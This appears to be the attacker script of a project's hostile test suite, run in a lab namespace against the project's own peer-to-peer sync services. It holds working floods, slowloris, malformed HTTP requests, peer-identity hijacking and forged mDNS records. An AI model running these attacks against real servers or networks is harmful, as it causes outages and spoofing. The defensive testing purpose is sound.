/**
 * The attacker of `npm run test:hostile`, run by the harness inside the lab's attacker namespace
 * (`ip netns exec`): one attack per run, given as a JSON argument, bounded by its `seconds`; it
 * prints one JSON line with what it saw and exits. Targets are only the lab's processes, whose
 * addresses the harness passes in. Never run it against anything else.
 */
import { createSocket } from 'node:dgram'
import { connect as tcpConnect, type Socket } from 'node:net'
import * as dnsPacket from 'dns-packet'
import * as encoding from 'lib0/encoding'
import { encodeEnvelope, MessageType, PROTOCOL_VERSION, asPeerId, seededRandom, type PeerId } from '@sship/core'
import { advertisementRecords, encodeHello, SERVICE_TYPE } from '@sship/lan'
import { encodeWsFrame, encodeWsHello } from '@sship/websocket'
import { WebSocket } from 'ws'
import * as syncProtocol from 'y-protocols/sync'
import * as Y from 'yjs'

/** What the harness asks for. */
export interface AttackSpec {
  readonly attack: string
  readonly seconds: number
  /** `host:port` of the lab's sship peers' WebSocket servers, the coordinator first. */
  readonly peers: readonly string[]
  /** Their GUIDs, in the same order. */
  readonly peerIds: readonly string[]
  readonly app: string
  /** The app of each of `peers`, where it is not `app`. */
  readonly apps?: readonly string[]
  /** The demo host: HTTP `host:port`, its app, and its signaling `host:port`. */
  readonly host: string
  readonly hostApp: string
  readonly signaling: string
  /** The attacker's own address (multicast is sent from it) and the lab's mDNS port. */
  readonly self: string
  readonly mdnsPort: number
  readonly seed: number
}

const spec = JSON.parse(process.argv[2] ?? '{}') as AttackSpec
const random = seededRandom(spec.seed)
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms))
const until = (ms: number): (() => boolean) => {
  const end = performance.now() + ms
  return () => performance.now() < end
}
const hex = (n: number): string => Array.from({ length: n }, () => Math.floor(random.next() * 16).toString(16)).join('')

/** Sends raw HTTP request heads and collects the status line of each answer (or how the socket ended). */
async function rawRequests(target: string, heads: readonly string[]): Promise<Record<string, string>> {
  const [h, p] = target.split(':')
  const out: Record<string, string> = {}
  for (const [i, head] of heads.entries()) {
    out[`${i} ${(head.split('\r\n')[0] ?? head).replace(' HTTP/1.1', '')}${head.includes('Upgrade') ? ' (upgrade)' : ''}`] = await new Promise<string>((resolve) => {
      const s = tcpConnect({ host: h, port: Number(p) })
      let got = ''
      const done = (why: string): void => {
        s.destroy()
        resolve(why)
      }
      s.setTimeout(3000, () => done('timeout'))
      s.on('data', (d) => {
        got += d.toString('latin1')
        if (got.includes('\r\n')) done(got.split('\r\n')[0] ?? '')
      })
      s.on('error', (e) => done(`error ${(e as NodeJS.ErrnoException).code ?? e.message}`))
      s.on('close', () => done(got === '' ? 'closed' : got.split('\r\n')[0] ?? ''))
      s.write(head)
    })
  }
  return out
}

function badPathHeads(hostHeader: string): string[] {
  const upgrade = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: ${hostHeader}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${Buffer.from(hex(16)).toString('base64').slice(0, 24)}\r\n\r\n`
  const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: ${hostHeader}\r\nConnection: close\r\n\r\n`
  return [get('//'), get('/\\'), get('/%'), get('/%E0%A4%A'), upgrade('//'), upgrade('/%'), upgrade('/sship/%E0%A4%A')]
}

function step1Frame(): Uint8Array {
  const e = encoding.createEncoder()
  syncProtocol.writeSyncStep1(e, new Y.Doc())
  return encodeEnvelope(MessageType.Sync, encoding.toUint8Array(e))
}

function openWs(url: string): Promise<WebSocket | undefined> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, { handshakeTimeout: 3000 })
    ws.on('error', () => resolve(undefined))
    ws.on('open', () => resolve(ws))
  })
}

/** Floods `ws` with `frame` at about `perSecond` for the attack's duration without reading; how it ended. */
async function floodWithoutReading(ws: WebSocket, hello: Uint8Array, frame: () => Uint8Array, perSecond: number): Promise<Record<string, unknown>> {
  let closed: number | undefined
  let received = 0
  ws.on('close', (code) => { closed = code })
  ws.on('message', (d: Buffer) => { received += d.byteLength })
  ws.send(hello)
  await sleep(200)
  ;(ws as unknown as { _socket: Socket })._socket.pause()
  const more = until(spec.seconds * 1000)
  let sent = 0
  const t0 = performance.now()
  while (more() && closed === undefined && ws.readyState === ws.OPEN) {
    // Big batches: on a loaded machine a timer tick is late, and the flood must still be a flood.
    for (let i = 0; i < perSecond / 10; i++) ws.send(frame())
    sent += perSecond / 10
    await sleep(100)
  }
  // Read again to learn how the server closed the link (its close frame waits behind what we did not read).
  const stoppedAt = performance.now()
  ;(ws as unknown as { _socket: Socket })._socket.resume()
  const endBy = performance.now() + 1500
  while (closed === undefined && performance.now() < endBy) await sleep(50)
  const closedAfterMs = closed === undefined ? null : Math.round(Math.min(stoppedAt, performance.now()) - t0)
  ws.terminate()
  return { sent, received, closeCode: closed ?? null, closedAfterMs }
}

function mdnsSocket(): Promise<ReturnType<typeof createSocket>> {
  return new Promise((resolve) => {
    const s = createSocket({ type: 'udp4', reuseAddr: true })
    s.on('error', () => undefined)
    s.bind(spec.mdnsPort, '0.0.0.0', () => {
      try {
        s.addMembership('224.0.0.251', spec.self)
        s.setMulticastInterface(spec.self)
      } catch {
        // Counting answers needs the membership; forging does not.
      }
      resolve(s)
    })
  })
}

const sendMdns = (s: ReturnType<typeof createSocket>, packet: dnsPacket.Packet): void => {
  s.send(dnsPacket.encode(packet), spec.mdnsPort, '224.0.0.251')
}

/** Hellos that claim the lab's peers (fresh sessions), on every peer, for the duration; optional forged goodbyes. */
async function hijack(goodbyes: boolean): Promise<Record<string, unknown>> {
  const codes: Record<string, number> = {}
  const more = until(spec.seconds * 1000)
  const mdns = goodbyes ? await mdnsSocket() : undefined
  let lastGoodbye = 0
  let tries = 0
  while (more()) {
    for (const [i, target] of spec.peers.entries()) {
      for (const claimed of spec.peerIds) {
        if (claimed === spec.peerIds[i]) continue
        tries++
        void openWs(`ws://${target}`).then((ws) => {
          if (ws === undefined) return
          ws.on('close', (code) => { codes[code] = (codes[code] ?? 0) + 1 })
          ws.send(encodeHello({ protocol: PROTOCOL_VERSION, app: spec.apps?.[i] ?? spec.app, peerId: asPeerId(claimed), session: hex(16) }))
          setTimeout(() => ws.terminate(), 1500)
        })
      }
    }
    if (mdns !== undefined && performance.now() - lastGoodbye > 1000) {
      lastGoodbye = performance.now()
      for (const [i, id] of spec.peerIds.entries()) {
        const [addr, port] = (spec.peers[i] ?? '').split(':')
        sendMdns(mdns, { type: 'response', answers: advertisementRecords({ app: spec.app, peerId: id as PeerId, version: PROTOCOL_VERSION, port: Number(port), address: addr ?? '' }, 0) })
      }
    }
    await sleep(100)
  }
  await sleep(1600)
  mdns?.close()
  return { hellos: tries, closeCodes: codes }
}

async function run(): Promise<Record<string, unknown>> {
  const [hostAddr] = spec.host.split(':')
  switch (spec.attack) {
    case 'bad-paths':
      return {
        host: await rawRequests(spec.host, badPathHeads(spec.host)),
        peer: await rawRequests(spec.peers[0] ?? '', badPathHeads(spec.peers[0] ?? '')),
        signaling: await rawRequests(spec.signaling, badPathHeads(spec.signaling))
      }
    case 'step1-flood-peer': {
      const ws = await openWs(`ws://${spec.peers[0]}`)
      if (ws === undefined) return { error: 'could not connect' }
      const step1 = step1Frame()
      return floodWithoutReading(ws, encodeHello({ protocol: PROTOCOL_VERSION, app: spec.app, peerId: asPeerId(`attacker-${hex(6)}`), session: hex(16) }), () => step1, 10_000)
    }
    case 'step1-flood-hub': {
      const ws = await openWs(`ws://${spec.host}/sship`)
      if (ws === undefined) return { error: 'could not connect' }
      const step1 = step1Frame()
      return floodWithoutReading(ws, encodeWsHello(spec.hostApp, `attacker-${hex(6)}`), () => encodeWsFrame(step1), 10_000)
    }
    case 'garbage-frames': {
      const ws = await openWs(`ws://${spec.peers[1]}`)
      if (ws === undefined) return { error: 'could not connect' }
      return floodWithoutReading(ws, encodeHello({ protocol: PROTOCOL_VERSION, app: spec.app, peerId: asPeerId(`garbage-${hex(6)}`), session: hex(16) }),
        () => Uint8Array.from({ length: 1 + Math.floor(random.next() * 64) }, () => Math.floor(random.next() * 256)), 10_000)
    }
    case 'signaling-subscribe': {
      const codes: Record<string, number> = {}
      const more = until(spec.seconds * 1000)
      let sent = 0
      for (let i = 0; i < 60 && more(); i++) {
        const ws = await openWs(`ws://${spec.signaling}`)
        if (ws === undefined) continue
        const closed = new Promise<void>((resolve) => ws.on('close', (code) => { codes[code] = (codes[code] ?? 0) + 1; resolve() }))
        const pad = hex(40)
        const topics = Array.from({ length: 20_000 }, (_, k) => `${i}-${k}-${pad}`)
        ws.send(JSON.stringify({ type: 'subscribe', topics }))
        sent++
        await Promise.race([closed, sleep(spec.seconds * 1000 / 60)])
        ws.terminate()
      }
      return { subscribes: sent, closeCodes: codes }
    }
    case 'signaling-publish': {
      const subs = (await Promise.all(Array.from({ length: 20 }, () => openWs(`ws://${spec.signaling}`)))).filter((w): w is WebSocket => w !== undefined)
      let relayed = 0
      for (const s of subs) {
        s.on('message', () => { relayed++ })
        s.send(JSON.stringify({ type: 'subscribe', topics: ['hostile-room'] }))
      }
      const pub = await openWs(`ws://${spec.signaling}`)
      if (pub === undefined) return { error: 'could not connect' }
      let closeCode: number | undefined
      pub.on('close', (c) => { closeCode = c })
      const more = until(spec.seconds * 1000)
      let sent = 0
      while (more() && pub.readyState === pub.OPEN) {
        for (let i = 0; i < 12; i++) pub.send(JSON.stringify({ type: 'publish', topic: 'hostile-room', data: { type: 'announce', from: hex(8), pad: hex(200) } }))
        sent += 12
        await sleep(10)
      }
      const endBy = performance.now() + 1500
      while (closeCode === undefined && performance.now() < endBy) await sleep(50)
      for (const s of [...subs, pub]) s.terminate()
      return { sent, relayed, closeCode: closeCode ?? null }
    }
    case 'hello-hijack': return hijack(false)
    case 'hijack-goodbyes': return hijack(true)
    case 'mdns-answers': {
      const s = await mdnsSocket()
      const net = spec.self.split('.').slice(0, 3).join('.')
      const more = until(spec.seconds * 1000)
      let sent = 0
      while (more() && sent < 2000) {
        for (let i = 0; i < 25; i++) {
          const kind = sent % 4
          const address = kind === 0 ? '77.0.0.0' : kind === 1 ? '224.0.0.1' : kind === 2 ? `${net}.${200 + (sent % 50)}` : '127.0.0.1'
          const port = kind === 0 ? 80 : 2000 + (sent % 60000)
          sendMdns(s, { type: 'response', answers: advertisementRecords({ app: spec.app, peerId: `fake-${sent}` as PeerId, version: PROTOCOL_VERSION, port, address }, 120) })
          sent++
        }
        await sleep(40)
      }
      s.close()
      return { forged: sent }
    }
    case 'mdns-queries': {
      const s = await mdnsSocket()
      let answers = 0
      s.on('message', (msg) => {
        try {
          if (dnsPacket.decode(msg).type === 'response') answers++
        } catch {
          // not ours to parse
        }
      })
      const more = until(spec.seconds * 1000)
      let queries = 0
      while (more() && queries < 1000) {
        for (let i = 0; i < 10; i++) sendMdns(s, { type: 'query', questions: [{ name: SERVICE_TYPE, type: 'PTR' }] })
        queries += 10
        await sleep(spec.seconds * 1000 / 100)
      }
      await sleep(1500)
      s.close()
      return { queries, answers, amplification: Number((answers / queries).toFixed(3)) }
    }
    case 'slowloris': {
      const sockets: Socket[] = []
      const closedAt: number[] = []
      const t0 = performance.now()
      const [h, p] = (spec.peers[2] ?? '').split(':')
      for (let i = 0; i < 100; i++) {
        const s = tcpConnect({ host: h, port: Number(p) })
        s.on('error', () => undefined)
        s.on('data', () => undefined)
        s.on('close', () => closedAt.push(performance.now() - t0))
        s.write(`GET / HTTP/1.1\r\nHost: ${hostAddr}\r\n`)
        sockets.push(s)
      }
      const more = until(spec.seconds * 1000)
      while (more() && closedAt.length < sockets.length) {
        for (const s of sockets) if (!s.destroyed) s.write(`X-${hex(4)}: ${hex(4)}\r\n`)
        await sleep(1000)
      }
      for (const s of sockets) s.destroy()
      const open = sockets.length - closedAt.length
      return { sockets: sockets.length, closedByServer: closedAt.length, stillOpenAtEnd: open, maxCloseMs: Math.round(Math.max(0, ...closedAt)) }
    }
    default:
      return { error: `unknown attack ${spec.attack}` }
  }
}

const hardStop = setTimeout(() => {
  process.stdout.write(`${JSON.stringify({ attack: spec.attack, error: 'hard stop' })}\n`)
  process.exit(0)
}, (spec.seconds + 15) * 1000)
run().then((result) => {
  clearTimeout(hardStop)
  process.stdout.write(`${JSON.stringify({ attack: spec.attack, ...result })}\n`)
  process.exit(0)
}, (error: unknown) => {
  process.stdout.write(`${JSON.stringify({ attack: spec.attack, error: String(error) })}\n`)
  process.exit(0)
})
